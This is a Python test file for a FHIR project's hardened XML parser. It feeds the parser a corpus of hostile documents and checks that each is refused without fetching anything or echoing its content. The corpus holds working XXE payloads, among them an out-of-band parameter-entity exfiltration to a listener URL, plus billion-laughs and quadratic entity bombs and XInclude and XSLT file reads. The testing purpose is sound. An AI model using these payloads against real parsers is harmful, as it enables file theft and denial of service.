# SPDX-License-Identifier: EUPL-1.2
"""The one door of XML: a corpus of hostile documents, refused without a word of their content."""

import multiprocessing
import resource
import socket
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest

from carnet import errors
from carnet.fhir import xml

CANARY = "DUPONT-SECRET"
LISTENER = "@LISTENER@"  # replaced by an address of this machine where somebody listens
FILE = "@FILE@"  # replaced by the address of a file that holds the canary


def dtd(subset: str, use: str = "") -> str:
    return f"<!DOCTYPE r [{subset}]><r>{use}</r>"


def laughs(levels: int, width: int) -> str:
    """Billion laughs: each entity is `width` times the one before."""
    entities = '<!ENTITY e0 "lol">' + "".join(
        f'<!ENTITY e{i} "{f"&e{i - 1};" * width}">' for i in range(1, levels)
    )
    return dtd(entities, f"&e{levels - 1};")


DOCTYPES = {
    "a bare doctype": "<!DOCTYPE r><r/>",
    "an external file": dtd(f'<!ENTITY x SYSTEM "{FILE}">', "&x;"),
    "an external address": dtd(f'<!ENTITY x SYSTEM "{LISTENER}/x">', "&x;"),
    "a public identifier": f'<!DOCTYPE r PUBLIC "-//X//Y" "{LISTENER}/y.dtd"><r/>',
    "an external subset": f'<!DOCTYPE r SYSTEM "{LISTENER}/z.dtd"><r/>',
    "a parameter entity": dtd(f'<!ENTITY % p SYSTEM "{LISTENER}/p"> %p;'),
    "a parameter entity in a file": dtd(f'<!ENTITY % p SYSTEM "{FILE}"> %p;'),
    "an exfiltration": dtd(
        f'<!ENTITY % f SYSTEM "{FILE}"><!ENTITY % w "<!ENTITY s SYSTEM \'{LISTENER}/?%f;\'>">%w;',
        "&s;",
    ),
    "a billion laughs": laughs(10, 10),
    "a deep laugh": laughs(60, 2),
    "a quadratic blow-up": dtd(f'<!ENTITY x "{"a" * 50_000}">', "&x;" * 5_000),
    "an entity in an attribute": '<!DOCTYPE r [<!ENTITY x "v">]><r a="&x;"/>',
    "a loop of entities": dtd('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
    "default attributes": '<!DOCTYPE r [<!ATTLIST r a CDATA "v">]><r/>',
    "a notation": dtd(f'<!NOTATION n SYSTEM "{LISTENER}/n">'),
    "an unparsed entity": dtd(f'<!NOTATION n SYSTEM "n"><!ENTITY u SYSTEM "{FILE}" NDATA n>'),
    "a redefined predefined entity": dtd('<!ENTITY lt "&#38;#60;script>">', "&lt;"),
    "a conditional section": dtd('<!ENTITY % i "INCLUDE"><![%i;[<!ENTITY x "v">]]>'),
    "a doctype after a comment": "<!-- c --><!DOCTYPE r><r/>",
    "a doctype after comments": "<!-- c --><?p ?>\n<!-- d --><!DOCTYPE r><r/>",
    "a doctype after the declaration": '<?xml version="1.0"?><!DOCTYPE r><r/>',
    "a doctype in small letters": "<!doctype r><r/>",
    "a doctype with a new line": "<!DOCTYPE\nr [\n]><r/>",
    "a doctype of another root": f'<!DOCTYPE html SYSTEM "{LISTENER}/h"><r/>',
    "an element declaration": "<!ELEMENT r ANY><r/>",
    "a CDATA section before the root": "<![CDATA[x]]><r/>",
}

MALFORMED: dict[str, bytes] = {
    "nothing": b"",
    "white space": b" \n\t ",
    "text": CANARY.encode(),
    "JSON": b'{"resourceType": "Patient"}',
    "a truncated element": f"<r><nom>{CANARY}".encode(),
    "a truncated tag": b"<r><nom",
    "a truncated declaration": b'<?xml version="1.0"',
    "an endless comment": b"<!-- " + b"x" * 1000,
    "an endless instruction": b"<?x " + b"x" * 1000,
    "crossed tags": f"<r><a>{CANARY}</b></r>".encode(),
    "two roots": b"<r/><r/>",
    "text after the root": b"<r/>" + CANARY.encode(),
    "an undefined entity": b"<r>&xxe;</r>",
    "an HTML entity": b"<r>&eacute;</r>",
    "twice the same attribute": f'<r a="1" a="{CANARY}"/>'.encode(),
    "an unbound prefix": b"<x:r/>",
    "a NUL": b"<r>a\0b</r>",
    "a control character": b"<r>\x01</r>",
    "a control reference": b"<r>&#1;</r>",
    "a surrogate reference": b"<r>&#xD800;</r>",
    "a non-character": b"<r>&#xFFFF;</r>",
    "a huge reference": b"<r>&#99999999999999;</r>",
    "bytes that are not UTF-8": b"<r>\xff\xfe\xfd</r>",
    "an overlong character": b"<r>\xc0\xbc</r>",
    "a surrogate in UTF-8": b"<r>\xed\xa0\x80</r>",
    "an angle in an attribute": b'<r a="<"/>',
    "a bare ampersand": b"<r>R&D</r>",
    "a late doctype": b"<r/><!DOCTYPE r>",
    "a doctype inside": b"<r><!DOCTYPE r></r>",
    "a late declaration": b' <?xml version="1.0"?><r/>',
    "an end of CDATA": b"<r>]]></r>",
}

ENCODED: dict[str, bytes] = {
    "UTF-16 with its mark": dtd('<!ENTITY x "v">', "&x;").encode("utf-16"),
    "UTF-16 little end first, no mark": "<!DOCTYPE r><r/>".encode("utf-16-le"),
    "UTF-16 big end first, no mark": "<!DOCTYPE r><r/>".encode("utf-16-be"),
    "UTF-16 announced": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r><r/>'.encode("utf-16"),
    "UTF-8 with its mark": b"\xef\xbb\xbf<!DOCTYPE r><r/>",
    "UTF-32": "<!DOCTYPE r><r/>".encode("utf-32"),
    "UTF-32 without mark": "<!DOCTYPE r><r/>".encode("utf-32-le"),
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r+AD4APA-r/+AD4-',
    "EBCDIC": '<?xml version="1.0" encoding="cp037"?><!DOCTYPE r><r/>'.encode("cp037"),
    "EBCDIC announced in ASCII": b'<?xml version="1.0" encoding="IBM037"?><r/>',
    "an unknown encoding": b'<?xml version="1.0" encoding="x-nothing"?><r/>',
    "an encoding of one letter more": b'<?xml version="1.0" encoding="UTF-88"?><r/>',
    "UTF-16 announced over ASCII": b'<?xml version="1.0" encoding="UTF-16"?><r/>',
    "half a character of UTF-16": b"\xff\xfe<\0r\0/\0>",
    "ASCII that is not": b'<?xml version="1.0" encoding="US-ASCII"?><r>\xe9</r>',
}

LARGE: dict[str, Callable[[], bytes]] = {
    "deep": lambda: b"<a>" * 5_000 + b"</a>" * 5_000,
    "one level too deep": lambda: b"<a>" * (xml.MAX_DEPTH + 1) + b"</a>" * (xml.MAX_DEPTH + 1),
    "very deep, never closed": lambda: b"<a>" * 100_000,
    "millions of elements": lambda: b"<r>" + b"<a/>" * 1_000_000 + b"</r>",
    "millions of attributes": lambda: (
        b"<r " + b" ".join(b'a%d="1"' % i for i in range(600_000)) + b"/>"
    ),
    "a text of twelve megabytes": lambda: b"<r>" + b"A" * 12_000_000 + b"</r>",
    "seventeen megabytes": lambda: b"<r>" + b"A" * (xml.MAX_BYTES + 1) + b"</r>",
    "a name of a megabyte": lambda: b"<" + b"a" * 11_000_000 + b"/>",
}

CORPUS: dict[str, Callable[[], bytes]] = {
    **{f"DOCTYPE: {name}": partial(bytes, text, "utf-8") for name, text in DOCTYPES.items()},
    **{f"malformed: {name}": partial(bytes, source) for name, source in MALFORMED.items()},
    **{f"encoding: {name}": partial(bytes, source) for name, source in ENCODED.items()},
    **{f"large: {k}": v for k, v in LARGE.items()},
}


@pytest.mark.parametrize("name", CORPUS)
def test_a_hostile_document_is_refused_and_not_quoted(name: str, tmp_path: Path) -> None:
    """The refusal is a sentence of ours; nobody's name is in it; nothing is fetched."""
    secret = tmp_path / "secret"
    secret.write_text(CANARY)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        address = f"http://127.0.0.1:{listener.getsockname()[1]}"
        source = CORPUS[name]()
        if len(source) < 100_000:
            source = source.replace(LISTENER.encode(), address.encode())
            source = source.replace(FILE.encode(), secret.as_uri().encode())
        with pytest.raises((errors.Invalid, errors.TooLarge)) as refusal:
            xml.parse(source)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert CANARY not in str(refusal.value)
    assert refusal.value.__cause__ is None
    assert len(str(refusal.value)) < 200


def test_the_corpus_is_large_enough() -> None:
    """Sixty files, of every family of specs/threats.md C3."""
    assert len(CORPUS) >= 60


def weigh(folder: Path) -> int:
    """Kilobytes by which reading the files of a folder swells a process of its own."""
    files = sorted(folder.iterdir(), key=lambda f: f.stat().st_size)
    files[-1].read_bytes()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for file in files:
        try:
            xml.parse(file.read_bytes())
        except (errors.Invalid, errors.TooLarge):
            continue
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before


@pytest.mark.skipif(sys.platform != "linux", reason="memory is counted in kilobytes on Linux only")
def test_the_whole_corpus_takes_little_memory(tmp_path: Path) -> None:
    """Less than 20 MB beyond the largest document, all of them one after another."""
    for number, source in enumerate(CORPUS.values()):
        (tmp_path / str(number)).write_bytes(source())
    with multiprocessing.get_context("spawn").Pool(1) as pool:
        assert pool.apply(weigh, (tmp_path,)) < 20_000


ACCEPTED: dict[str, bytes] = {
    "a mark of UTF-8": "\ufeff<r>é</r>".encode(),
    "UTF-16": "<?xml version='1.0' encoding='utf-16'?><r>é</r>".encode("utf-16"),
    "UTF-16 without mark": "<r>é</r>".encode("utf-16-le"),
    "latin-1": "<?xml version='1.0' encoding='ISO-8859-1'?><r>é</r>".encode("latin-1"),
    "latin-9": "<?xml version='1.0' encoding='iso-8859-15'?><r>é</r>".encode("iso-8859-15"),
    "windows-1252": "<?xml version='1.0' encoding='windows-1252'?><r>é</r>".encode("cp1252"),
    "a doctype in a comment": "<!-- <!DOCTYPE x> --><r>é</r>".encode(),
    "instructions": "<?xml version='1.0'?><?xml-stylesheet href='x.xsl'?><r><?y z?>é</r>".encode(),
    "a comment in the text": "<r><!-- a -->é<!-- b --></r>".encode(),
    "CDATA": "<r><![CDATA[é]]></r>".encode(),
}


@pytest.mark.parametrize("name", ACCEPTED)
def test_an_honest_document_is_read_whatever_its_encoding(name: str) -> None:
    """What follows the rules of XML and holds no DOCTYPE comes in."""
    root = xml.parse(ACCEPTED[name])
    assert root.tag == "r"
    assert "".join(root.itertext()) == "é"


def test_a_doctype_that_is_only_text_is_text() -> None:
    """A page of HTML kept in a CDATA section opens no door."""
    root = xml.parse(b"<r><![CDATA[<!DOCTYPE html [<!ENTITY x 'y'>]>&x;]]></r>")
    assert root.text == "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;"


def test_an_inclusion_stays_a_mere_element(tmp_path: Path) -> None:
    """XInclude is never run: the element is there, the file is not."""
    secret = tmp_path / "secret"
    secret.write_text(CANARY)
    include = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}"/>'
    root = xml.parse(f"<r>{include}</r>".encode())
    assert root[0].tag == "{http://www.w3.org/2001/XInclude}include"
    assert "".join(root.itertext()) == ""


def test_a_stylesheet_is_not_followed(tmp_path: Path) -> None:
    """document() of an XSLT root is text of an attribute, nothing more."""
    secret = tmp_path / "secret"
    secret.write_text(CANARY)
    xsl = "http://www.w3.org/1999/XSL/Transform"
    source = f'<s xmlns:x="{xsl}"><x:copy-of select="document(\'{secret.as_uri()}\')"/></s>'
    assert CANARY not in "".join(xml.parse(source.encode()).itertext())


def test_the_deepest_level_accepted_is_the_256th() -> None:
    """One more is refused, as the corpus shows."""
    xml.parse(b"<a>" * xml.MAX_DEPTH + b"</a>" * xml.MAX_DEPTH)


def test_a_refusal_says_where() -> None:
    """The writer of the document can find the fault by its line."""
    with pytest.raises(errors.Invalid, match="line 3"):
        xml.parse(b"<r>\n<a>\n</b></r>")
